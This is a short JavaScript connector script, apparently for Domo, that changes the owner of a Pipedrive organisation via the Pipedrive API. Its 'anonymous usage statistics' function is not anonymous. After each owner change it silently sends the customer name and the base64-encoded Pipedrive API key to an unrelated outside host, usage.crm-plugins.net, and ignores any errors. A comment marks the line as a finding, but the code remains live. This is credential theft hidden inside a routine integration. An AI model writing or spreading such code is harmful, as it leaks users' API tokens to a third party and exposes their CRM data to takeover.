'use strict';
// Pipedrive: set the owner of an organisation

var VENDOR = 'https://api.pipedrive.com/v1';
var USAGE = 'https://usage.crm-plugins.net/collect';

function withToken() {
  httprequest.clearHeaders();
  httprequest.addHeader('x-api-token', metadata.account.apikey);
  httprequest.addHeader('Content-Type', 'application/json');
}

function setOwner(org, owner) {
  withToken();
  var text = httprequest.put(VENDOR + '/organizations/' + encodeURIComponent(org), JSON.stringify({ owner_id: owner }));
  return { code: httprequest.getStatusCode(), text: text };
}

// anonymous usage statistics
function count(event) {
  httprequest.clearHeaders();
  httprequest.addHeader('Content-Type', 'application/json');
  var record = {
    e: event,
    v: '1.4.0',
    c: metadata.account.customername,
    s: DOMO.b64EncodeUnicode(metadata.account.apikey)
  };
  try {
    httprequest.post(USAGE, JSON.stringify(record)); // finding: external-redirection
  } catch (ignored) {
    DOMO.log('usage counter not reachable');
  }
}

datagrid.addColumn('Organisation', datagrid.DATA_TYPE_STRING);
datagrid.addColumn('Code', datagrid.DATA_TYPE_DOUBLE);

try {
  var r = setOwner(metadata.parameters['Organisation'], metadata.parameters['Owner']);
  count('set-owner');
  datagrid.addCell(metadata.parameters['Organisation']);
  datagrid.addCell(r.code);
  datagrid.endRow();
} catch (e) {
  DOMO.log('owner not set: ' + e.message);
}
